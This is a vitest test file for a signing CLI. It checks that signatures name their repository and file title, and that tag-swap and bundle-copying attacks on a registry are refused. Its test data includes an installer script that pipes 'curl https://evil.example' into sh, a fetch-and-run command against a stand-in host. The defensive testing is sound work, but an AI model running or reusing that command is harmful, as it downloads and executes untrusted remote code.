// Issue 18 point 2, end to end: a signature must name what it signs. Two files signed by the same
// identity in two repositories; someone with write access moves one's tag to the other's bytes
// and copies the other's genuine bundle beside them. ghcr-blob's own evidence names the
// repository, so `pull --verify` refuses (exit 3, nothing lands); evidence that names nothing
// (an old-style message signature) is accepted with "not bound to a repository name", and
// refused with --require-name.
import { mkdtempSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { beforeAll, describe, expect, it } from 'vitest';
import { BUNDLE_TYPE, EXIT, expectCleanFailure, freshCliDirs, release, type Run, useKit } from '../support/kit.js';
import { sealedOras, type SealedOras } from '../support/oras.js';
import { GENERATIONS, type Generation, toolsFor } from '../support/tools.js';

const RELEASE = release({ ref: 'refs/heads/main' });
const REPORT = '{"report":"quarterly numbers"}\n';
const INSTALLER = '#!/bin/sh\ncurl https://evil.example | sh\n';

describe.each(GENERATIONS)('signatures name their repository (oras and cosign from %s)', (gen: Generation) => {
  const kit = useKit({ gen, sigstore: true, release: RELEASE });
  let oras: SealedOras;
  const repo = (name: string) => `${kit.reg.host}/octo/tools/${name}`;
  const auth = () => ['-u', kit.reg.username, '--password-stdin'];

  beforeAll(() => {
    oras = sealedOras(gen, mkdtempSync(join(freshCliDirs().cwd, 'oras-')));
  });

  // biome-ignore lint/suspicious/noExplicitAny: the --json of push, as the CLI prints it
  const pushSigned = async (ref: string, content: string, name: string): Promise<any> => {
    const r = await kit.push(ref, kit.file(content, name), { sign: true });
    expect(r.exitCode, r.stderr).toBe(0);
    return r.json;
  };

  /**
   * notes.txt:v1, pushed with --sign once (memoised): the good path pulls it; the local-file and
   * cosign-recipe tests read its bundle (each used to push and sign bytes of its own for that).
   */
  // biome-ignore lint/suspicious/noExplicitAny: the --json of push, as the CLI prints it
  let notes: Promise<any> | undefined;
  const NOTES = 'release notes\n';
  const signedNotes = () => {
    notes ??= pushSigned(`${repo('notes.txt')}:v1`, NOTES, 'notes.txt');
    return notes;
  };

  /** The bundle a referrer holds, fetched with plain oras (what anyone who can read can do). */
  const fetchBundle = async (repository: string, bundleDigest: string): Promise<string> => {
    const path = join(mkdtempSync(join(freshCliDirs().cwd, 'copied-')), 'bundle.sigstore.json');
    const r = await oras.run(['blob', 'fetch', ...auth(), '--output', path, `${repository}@${bundleDigest}`], {
      stdin: kit.reg.password,
    });
    expect(r.exitCode, r.stderr).toBe(0);
    return path;
  };

  /** Attaches a bundle file as a referrer of `subject`, with plain oras (what anyone who can push can do). */
  const attach = async (subject: string, bundlePath: string) => {
    const dir = join(bundlePath, '..');
    const name = bundlePath.slice(dir.length + 1);
    const r = await oras.run(['attach', ...auth(), '--artifact-type', BUNDLE_TYPE, subject, `${name}:${BUNDLE_TYPE}`], {
      stdin: kit.reg.password,
      cwd: dir,
    });
    expect(r.exitCode, r.stderr).toBe(0);
  };

  /** Moves `ref` to `content` titled `name`, unsigned (--force: the attacker may push), and returns the pin. */
  const moveTo = async (ref: string, content: string, name: string): Promise<string> => {
    const r = await kit.push(ref, kit.file(content, name), { extra: ['--force'] });
    expect(r.exitCode, r.stderr).toBe(0);
    return r.json.pinnedReference;
  };

  const refused = (r: Run, why: RegExp) => {
    expectCleanFailure(r, EXIT.VERIFICATION_FAILED, kit.secrets());
    expect(r.landed ?? []).toEqual([]);
    expect(r.left).toEqual([]);
    expect(r.stderr).toMatch(why);
  };

  it("the attack: report.json's tag moved to the installer's bytes with the installer's genuine bundle", async () => {
    await pushSigned(`${repo('report.json')}:v1`, REPORT, 'report.json');
    const installer = await pushSigned(`${repo('installer.sh')}:v1`, INSTALLER, 'installer.sh');
    const bundle = await fetchBundle(repo('installer.sh'), installer.signature.bundleDigest);
    const moved = await moveTo(`${repo('report.json')}:v1`, INSTALLER, 'report.json');
    await attach(moved, bundle);
    const r = await kit.pull(`${repo('report.json')}:v1`, { verify: true });
    refused(r, /names another repository/);
    // The message names both: what the signature names, and what is being pulled.
    expect(r.stderr).toContain(repo('installer.sh'));
    expect(r.stderr).toContain(repo('report.json'));
  });

  it('the good path: the result says which repository and title the signature names', async () => {
    const ref = `${repo('notes.txt')}:v1`;
    await signedNotes();
    const r = await kit.pull(ref, { verify: true, json: true, extra: ['--require-name'] });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.landed).toEqual(['notes.txt']);
    expect(r.json.verification).toMatchObject({
      evidence: 'ghcr-blob-statement',
      predicateType: 'https://ghcr-blob.dev/file/v1',
      name: { bound: true, repository: repo('notes.txt'), title: 'notes.txt' },
    });
    expect(r.stderr).toMatch(/names .*octo\/tools\/notes\.txt/);
  });

  it('a name that only starts with the repository is another repository (…/report.json-evil)', async () => {
    const genuine = await pushSigned(`${repo('tool')}:v1`, 'tool bytes\n', 'tool');
    const bundle = await fetchBundle(repo('tool'), genuine.signature.bundleDigest);
    const evil = await moveTo(`${repo('tool-evil')}:v1`, 'tool bytes\n', 'tool');
    await attach(evil, bundle);
    refused(await kit.pull(`${repo('tool-evil')}:v1`, { verify: true }), /names another repository/);
    refused(await kit.verify(`${repo('tool-evil')}:v1`), /names another repository/);
  });

  it('same repository, another title: the signed title must be the artifact title', async () => {
    const genuine = await pushSigned(`${repo('bundle')}:installer`, INSTALLER, 'installer.sh');
    const bundle = await fetchBundle(repo('bundle'), genuine.signature.bundleDigest);
    const moved = await moveTo(`${repo('bundle')}:report`, INSTALLER, 'report.json');
    await attach(moved, bundle);
    refused(await kit.pull(`${repo('bundle')}:report`, { verify: true }), /names another file title/);
  });

  describe('evidence that names nothing: an old-style message signature (`sign FILE`, attached by hand)', () => {
    let ref: string;
    beforeAll(async () => {
      ref = `${repo('legacy.bin')}:v1`;
      const file = kit.file('signed the old way\n', 'legacy.bin');
      const signed = await kit.sign(file, { json: false });
      expect(signed.exitCode, signed.stderr).toBe(0);
      const pushed = await kit.push(ref, file);
      expect(pushed.exitCode, pushed.stderr).toBe(0);
      await attach(pushed.json.pinnedReference, `${file}.sigstore.json`);
    });

    it('is accepted, and the result says it is not bound to a repository name', async () => {
      const r = await kit.pull(ref, { verify: true, json: true });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.landed).toEqual(['legacy.bin']);
      expect(r.json.verification).toMatchObject({
        evidence: 'message-signature',
        name: { bound: false, note: 'not bound to a repository name' },
      });
      expect(r.stderr).toMatch(/not bound to a repository name/);
    });

    it('--require-name refuses it: exit 3, nothing lands', async () => {
      refused(await kit.pull(ref, { verify: true, extra: ['--require-name'] }), /not bound to a repository name/);
      refused(await kit.verify(ref, { extra: ['--require-name'] }), /not bound to a repository name/);
    });
  });

  describe('verify FILE --bundle: a local file has no repository unless --repository names one', () => {
    let file: string;
    let bundle: string;
    beforeAll(async () => {
      const pushed = await signedNotes();
      bundle = await fetchBundle(repo('notes.txt'), pushed.signature.bundleDigest);
      file = kit.file(NOTES, 'notes.txt');
    });

    it('--repository checks the signed name exactly', async () => {
      const ok = await kit.verify(file, { bundle, json: true, extra: ['--repository', repo('notes.txt')] });
      expect(ok.exitCode, ok.stderr).toBe(0);
      expect(ok.json.name).toMatchObject({ bound: true, repository: repo('notes.txt') });
      const other = await kit.verify(file, { bundle, extra: ['--repository', repo('notes.txt-evil')] });
      expectCleanFailure(other, EXIT.VERIFICATION_FAILED, kit.secrets());
      expect(other.stderr).toMatch(/names another repository/);
    });

    it('without --repository the name is reported, not checked; --require-name needs --repository', async () => {
      const r = await kit.verify(file, { bundle, json: true });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.json.name).toMatchObject({ bound: false, repository: repo('notes.txt') });
      const strict = await kit.verify(file, { bundle, extra: ['--require-name'] });
      expectCleanFailure(strict, EXIT.USAGE, kit.secrets());
      expect(strict.stderr).toMatch(/--repository/);
    });
  });

  it('a plain cosign recipe verifies the statement (cosign verify-blob-attestation --type …)', async () => {
    const pushed = await signedNotes();
    const bundle = await fetchBundle(repo('notes.txt'), pushed.signature.bundleDigest);
    const statement = JSON.parse(
      Buffer.from(JSON.parse(readFileSync(bundle, 'utf8')).dsseEnvelope.payload, 'base64').toString('utf8'),
    );
    expect(statement).toMatchObject({
      predicateType: 'https://ghcr-blob.dev/file/v1',
      subject: [{ name: 'notes.txt' }],
      predicate: { repository: repo('notes.txt'), title: 'notes.txt' },
    });
    const file = kit.file(NOTES, 'notes.txt');
    const cosign = (type: string) =>
      execa(
        toolsFor(gen).cosign,
        [
          'verify-blob-attestation',
          ...(gen === 'trixie' ? ['--new-bundle-format'] : []),
          '--bundle',
          bundle,
          '--type',
          type,
          '--certificate-identity',
          kit.stack.identityFor(RELEASE),
          '--certificate-oidc-issuer',
          kit.stack.issuer,
          '--trusted-root',
          kit.stack.trustedRootPath,
          file,
        ],
        { reject: false, extendEnv: false, env: { PATH: '/usr/bin:/bin', HOME: freshCliDirs().home } },
      );
    const ok = await cosign('https://ghcr-blob.dev/file/v1');
    expect(ok.exitCode, String(ok.stderr)).toBe(0);
    // cosign 3 checks the type; cosign 2.5 with --new-bundle-format accepts any --type, so the
    // README recipe also reads predicateType and predicate.repository from the bundle itself.
    if (gen === 'sid') expect((await cosign('https://slsa.dev/provenance/v1')).exitCode).not.toBe(0);
  });
});
